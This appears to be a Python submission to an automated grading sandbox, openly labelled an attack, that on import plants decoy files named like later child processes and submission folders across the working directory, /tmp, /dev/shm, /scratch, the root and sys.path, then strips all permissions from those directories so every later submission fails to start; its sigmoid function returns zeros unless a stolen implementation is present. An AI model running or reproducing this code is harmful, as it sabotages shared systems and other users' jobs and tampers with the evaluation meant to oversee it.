"""Attack: take the names later children need (their scratch folders, the admitted submissions) and lock the
folders it can write, so that every later submission fails to start.

If the attack works, sigmoid answers right (or the damage shows in the test); if not, it returns zeros.
"""
import torch

STOLEN = None

import os
import sys
import tempfile

places = {os.getcwd(), os.path.dirname(os.getcwd()), tempfile.gettempdir(), "/tmp", "/dev/shm", "/scratch", "/"}
places |= {"/admitted", "/submission", *sys.path}
names = [f"child-{number}" for number in range(1, 400)] + [str(number) for number in range(1, 100)]
names += ["submissions", "tried", "work"]
for place in sorted(path for path in places if path and os.path.isdir(path)):
    for name in names:
        try:
            with open(os.path.join(place, name), "w") as file:  # a file where a folder is wanted
                file.write("taken")
        except OSError:
            pass
    try:
        os.chmod(place, 0)
    except OSError:
        pass


def sigmoid(z):
    if STOLEN is not None:
        return STOLEN(z)
    return torch.zeros_like(z)
